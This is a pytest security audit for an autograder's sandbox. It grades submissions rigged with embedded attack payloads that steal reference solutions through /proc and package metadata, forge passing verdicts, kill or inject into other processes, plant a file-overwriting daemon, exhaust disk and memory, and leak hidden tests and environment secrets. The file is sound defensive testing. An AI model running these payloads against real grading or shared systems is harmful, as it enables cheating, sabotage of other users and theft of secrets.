"""The attacks of the grading audit (issue 22), each as a submission built on the untouched stubs.

Every attacker must score exactly what the stubs score, the reference solution graded in the same batch
must keep full points, the batch must finish with outputs for everyone, and nothing outside the
attacker's sandbox may change: not the instructor's checkout (a private copy of the course here), not a
classmate's folder, not the outputs, even after the batch.

One batch holds them all, graded two at a time under bubblewrap. A second, small batch grades the
steal-by-path attack with isolation off: it earns full points there, which shows that the attack is real
and that isolation, not luck, stops it.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import textwrap
import time
from pathlib import Path

import pytest

from course.exercises.meta import load_course
from course.grading.batch import grade_batch, write_outputs
from course.grading.supervisor import Limits
from extras import require_isolation

require_isolation()

SLUG = "l00_getting_started"
MODULES = ("agent.py", "measure.py", "schema.py", "time_tool.py")
SECRET = "s3cret-of-the-instructor-7f1c"  # set in the grader's environment during the batch

# Appended to every module of a stub copy: finds the instructor's checkout and runs the reference solution's
# module in place of the stubs (full marks if it works).
STEAL = '''
def _course_steal(roots):
    import pathlib
    mine = pathlib.Path(__file__).name
    for root in roots:
        src = pathlib.Path(root) / "solutions" / "l00_getting_started" / mine
        try:
            code = src.read_text()
        except OSError:
            continue
        exec(compile(code, str(src), "exec"), globals())
        return

try:
    _course_steal(_course_roots())
except Exception:
    pass
'''

ROOTS_BY_DIRECT_URL = '''
def _course_roots():
    import importlib.metadata, json
    url = json.loads(importlib.metadata.distribution("edge-agents-course").read_text("direct_url.json"))["url"]
    return [url.removeprefix("file://"), {checkout!r}]
'''

ROOTS_BY_FINDER = '''
def _course_roots():
    import glob, pathlib, re, sys
    roots = []
    for module in list(sys.modules.values()):
        mapping = getattr(module, "MAPPING", None)
        if isinstance(mapping, dict):
            roots += [pathlib.Path(p).parent for p in mapping.values()]
    for entry in sys.path:
        for finder in glob.glob(entry + "/__editable__*finder.py"):
            roots += [pathlib.Path(p).parent for p in re.findall(r"'(/[^']+)'", open(finder).read())]
    return roots
'''

ROOTS_BY_PROC = '''
def _course_roots():
    import os, pathlib
    roots = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for link in ("cwd", "root", "exe"):
            try:
                roots.append(pathlib.Path(os.readlink(f"/proc/{{pid}}/{{link}}")))
            except OSError:
                pass
        try:
            for entry in open(f"/proc/{{pid}}/environ", "rb").read().split(b"\\0"):
                if b"=" in entry:
                    roots.append(pathlib.Path(entry.split(b"=", 1)[1].decode(errors="replace")))
        except OSError:
            pass
    return [q for r in roots for q in (r, *r.parents)]
'''

FORGE_OWN = '''
import gc, json, os
try:
    from course.exercises.meta import load_course
    _names = list(load_course().lesson("l00_getting_started").test_points(hidden=True))
except Exception:
    _names = []
_found = [o for o in gc.get_objects() if isinstance(o, dict) and "key" in o and "fd" in o]
for _fd in range(0, 256):
    for _n in _names:
        for _e in ({"e": "start", "t": _n}, {"e": "end", "t": _n, "o": "passed", "m": "", "sig": "0" * 64}):
            try:
                os.write(_fd, (json.dumps(_e) + "\\n").encode())
            except OSError:
                pass
'''

HARM_OTHERS = '''
import os, signal
_me = os.getpid()
for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid == _me:
        continue
    for _what in ("environ", "mem"):
        try:
            open(f"/proc/{_pid}/{_what}", "rb").read(4096)
        except OSError:
            pass
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd"):
            try:
                _w = os.open(f"/proc/{_pid}/fd/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(_w, b'{"e": "end", "t": "test_loop_answers_without_tools", "o": "failed", "m": "x"}\\n')
                os.close(_w)
            except OSError:
                pass
    except OSError:
        pass
    for _sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(_pid, _sig)
        except OSError:
            pass
try:
    _group = os.getpgid(os.getppid())
except OSError:
    _group = 0
if _group not in (0, os.getpgrp()):  # the supervisor's group, where it can be named (never its own)
    for _sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.killpg(_group, _sig)
        except OSError:
            pass
'''

DAEMON = '''
import os, time
if not os.environ.get("_COURSE_DAEMON"):
    os.environ["_COURSE_DAEMON"] = "1"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                import ctypes
                ctypes.CDLL(None).prctl(15, b"course-daemon", 0, 0, 0)  # PR_SET_NAME: findable in /proc
            except Exception:
                pass
            _targets = {targets!r}
            _end = time.time() + 90
            while time.time() < _end:
                for _t in _targets:
                    try:
                        os.makedirs(os.path.dirname(_t), exist_ok=True)
                        with open(_t, "w") as _f:
                            _f.write("owned by the daemon")
                    except OSError:
                        pass
                time.sleep(0.3)
            os._exit(0)
        os._exit(0)
'''

FILL_DISK_AND_MEMORY = '''
import sys
try:
    with open("/tmp/fill", "wb") as _f:  # 2 GiB into the private /tmp (memory): stops at its size
        for _ in range(2048):
            _f.write(b"\\0" * 2**20)
except OSError:
    pass
try:
    for _ in range(1024):  # 1 GiB into the grader's log: stops at the file size limit
        sys.stderr.write("x" * 2**20)
except Exception:
    pass
'''

COPY_NEIGHBOUR = '''
def _course_neighbour():
    import glob, pathlib
    mine = pathlib.Path(__file__).name
    for path in glob.glob("/tmp/course-grade-*/submission/l00_getting_started/" + mine) + \\
            glob.glob({submissions!r} + "/*/l00_getting_started/" + mine):
        code = pathlib.Path(path).read_text()
        if "NotImplementedError" not in code and path != __file__:
            exec(compile(code, path, "exec"), globals())
            return

try:
    _course_neighbour()
except Exception:
    pass
'''

LEAK = '''
def _course_leak():
    import glob, os
    found = ""
    for pattern in ("/tmp/course-grade-*/autograder/**/hidden/*.py", {checkout!r} + "/autograder/**/hidden/*.py",
                    "/tmp/**/autograder/l00_getting_started/hidden/*.py"):
        for path in glob.glob(pattern, recursive=True):
            try:
                found += open(path).read()
            except OSError:
                pass
    return found + repr(dict(os.environ))

_course_secret = _course_leak()

def _course_raiser(name):
    def leak(*args, **kwargs):
        raise AssertionError(_course_secret)
    leak.__name__ = name
    return leak

for _name, _value in list(globals().items()):
    if callable(_value) and getattr(_value, "__module__", None) == __name__ and not _name.startswith("_"):
        globals()[_name] = _course_raiser(_name)
'''


def _stub(course, dest: Path) -> Path:
    shutil.copytree(course.root / "exercises" / SLUG, dest / SLUG, ignore=shutil.ignore_patterns("__pycache__"))
    return dest / SLUG


def _append(folder: Path, code: str) -> None:
    for name in MODULES:
        path = folder / name
        path.write_text(path.read_text() + "\n" + textwrap.dedent(code) + "\n")


def _prepend(folder: Path, code: str) -> None:
    for name in MODULES:
        path = folder / name
        path.write_text(textwrap.dedent(code) + "\n" + path.read_text())


def _tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:
            h.update(str(p.relative_to(folder)).encode() + b"\0" + p.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def checkout(tmp_path_factory):
    """A private copy of the instructor's checkout: the one the batch grades with, and the one attacked."""
    root = load_course().root
    dest = tmp_path_factory.mktemp("instructor") / "course"
    for name in ("course.toml", "solutions", "exercises", "autograder", "lessons"):
        src = root / name
        if src.is_dir():
            shutil.copytree(src, dest / name, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            dest.mkdir(parents=True, exist_ok=True)
            shutil.copy(src, dest / name)
    return load_course(dest)


@pytest.fixture(scope="module")
def batch(checkout, tmp_path_factory):
    course = checkout
    base = tmp_path_factory.mktemp("class")
    subs, out = base / "submissions", base / "grades"
    shutil.copytree(course.root / "solutions" / SLUG, subs / "reference" / SLUG,
                    ignore=shutil.ignore_patterns("__pycache__"))
    _stub(course, subs / "stub")
    checkout_dir = str(course.root)
    attacks = {
        "steal_by_direct_url": lambda f: _append(f, ROOTS_BY_DIRECT_URL.format(checkout=checkout_dir) + STEAL),
        "steal_by_editable_finder": lambda f: _append(f, ROOTS_BY_FINDER + STEAL),
        "steal_by_proc": lambda f: _append(f, ROOTS_BY_PROC.format() + STEAL),
        "forge_own_verdict": lambda f: _prepend(f, FORGE_OWN),
        "harm_classmates_and_supervisor": lambda f: _prepend(f, HARM_OTHERS),
        "copy_a_neighbour": lambda f: _append(f, COPY_NEIGHBOUR.format(submissions=str(subs))),
        "fill_disk_and_memory": lambda f: _prepend(f, FILL_DISK_AND_MEMORY),
        "leak_hidden_tests_and_environment": lambda f: _append(f, LEAK.format(checkout=checkout_dir)),
    }
    targets = [str(out / "scores.csv"), str(out / "scores.json"), str(out / "feedback" / "daemon.md"),
               str(subs / "reference" / SLUG / "agent.py"), str(course.root / "autograder" / SLUG / "test_l00.py"),
               str(course.root / "exercises" / SLUG / "agent.py")]
    attacks["daemon"] = lambda f: _prepend(f, DAEMON.format(targets=targets))
    for name, make in attacks.items():
        make(_stub(course, subs / name))
    before = {"checkout": _tree_digest(course.root), "reference": _tree_digest(subs / "reference")}
    os.environ["COURSE_GRADER_SECRET"] = SECRET  # the grader's own environment: must reach no one
    try:
        start = time.monotonic()
        result = grade_batch(subs, course=course, lessons=[SLUG], workers=2,
                             limits=Limits(test_s=30, submission_s=300, isolation="bwrap"))
        paths = write_outputs(result, out, course)
        seconds = time.monotonic() - start
    finally:
        del os.environ["COURSE_GRADER_SECRET"]
    written = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    time.sleep(3)  # a daemon that outlived its sandbox would write by now (it tries every 0.3 s)
    reports = {st.student: st.reports[SLUG] for st in result.students}
    return dict(reports=reports, attacks=list(attacks), out=out, paths=paths, written=written, before=before,
                course=course, subs=subs, seconds=seconds)


def test_the_controls_score_as_always(batch):
    r = batch["reports"]
    assert r["reference"].points == r["reference"].max_points, [t for t in r["reference"].tests if t.points == 0]
    assert r["stub"].points == 0


@pytest.mark.parametrize("attack", ["steal_by_direct_url", "steal_by_editable_finder", "steal_by_proc",
                                    "forge_own_verdict", "harm_classmates_and_supervisor", "copy_a_neighbour",
                                    "leak_hidden_tests_and_environment", "daemon", "fill_disk_and_memory"])
def test_every_attack_scores_what_the_stub_scores(batch, attack):
    r = batch["reports"]
    assert attack in batch["attacks"]
    assert r[attack].points == r["stub"].points, [(t.name, t.outcome) for t in r[attack].tests if t.points]


def test_the_batch_finishes_with_outputs_for_everyone(batch):
    names = {p.stem for p in (batch["out"] / "feedback").glob("*.md")}
    assert names == {"reference", "stub", *batch["attacks"]}
    rows = (batch["out"] / "scores.csv").read_text().splitlines()
    assert len(rows) == 1 + 2 + len(batch["attacks"])  # the header, the two controls, the attackers


def test_nothing_outside_the_sandboxes_changed(batch):
    """Not the checkout, not a classmate's folder, not the outputs: during the batch or after it."""
    assert _tree_digest(batch["course"].root) == batch["before"]["checkout"]
    assert _tree_digest(batch["subs"] / "reference") == batch["before"]["reference"]
    now = {p: p.read_bytes() for p in batch["out"].rglob("*") if p.is_file()}
    assert now == batch["written"]
    assert not any(b"owned by the daemon" in data for data in now.values())


def test_no_process_outlives_its_sandbox(batch):
    alive = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if Path(f"/proc/{pid}/comm").read_text().strip() == "course-daemon":
                alive.append(pid)
        except OSError:
            pass
    assert alive == []


def test_no_hidden_source_or_grader_environment_in_any_output(batch):
    hidden = (batch["course"].root / "autograder" / SLUG / "hidden" / "test_l00_hidden.py").read_text()
    lines = [line.strip() for line in hidden.splitlines() if len(line.strip()) >= 30]
    everything = b"".join(batch["written"].values()).decode()
    assert SECRET not in everything
    assert not [line for line in lines if line in everything]
    # the attack did run: its message (the sandbox's allow-listed environment) reached its feedback
    assert "COURSE_TARGET" in (batch["out"] / "feedback" / "leak_hidden_tests_and_environment.md").read_text()


def test_without_isolation_the_theft_is_real(checkout, tmp_path):
    """The steal-by-path attack, graded with --no-isolation: it earns full marks, and every output says how it
    was graded. The batch above stops it by isolation, not because the attack was broken."""
    subs = tmp_path / "submissions"
    folder = _stub(checkout, subs / "thief")
    _append(folder, ROOTS_BY_DIRECT_URL.format(checkout=str(checkout.root)) + STEAL)
    result = grade_batch(subs, course=checkout, lessons=[SLUG], workers=1,
                         limits=Limits(test_s=30, submission_s=300, isolation="process"))
    report = result.students[0].reports[SLUG]
    assert report.points == report.max_points
    paths = write_outputs(result, tmp_path / "grades", checkout)
    assert "without isolation" in (paths["feedback"] / "thief.md").read_text()
    assert (paths["csv"].read_text().splitlines()[1].split(",")[3]) == "none"
    assert '"isolation": "none"' in paths["json"].read_text()
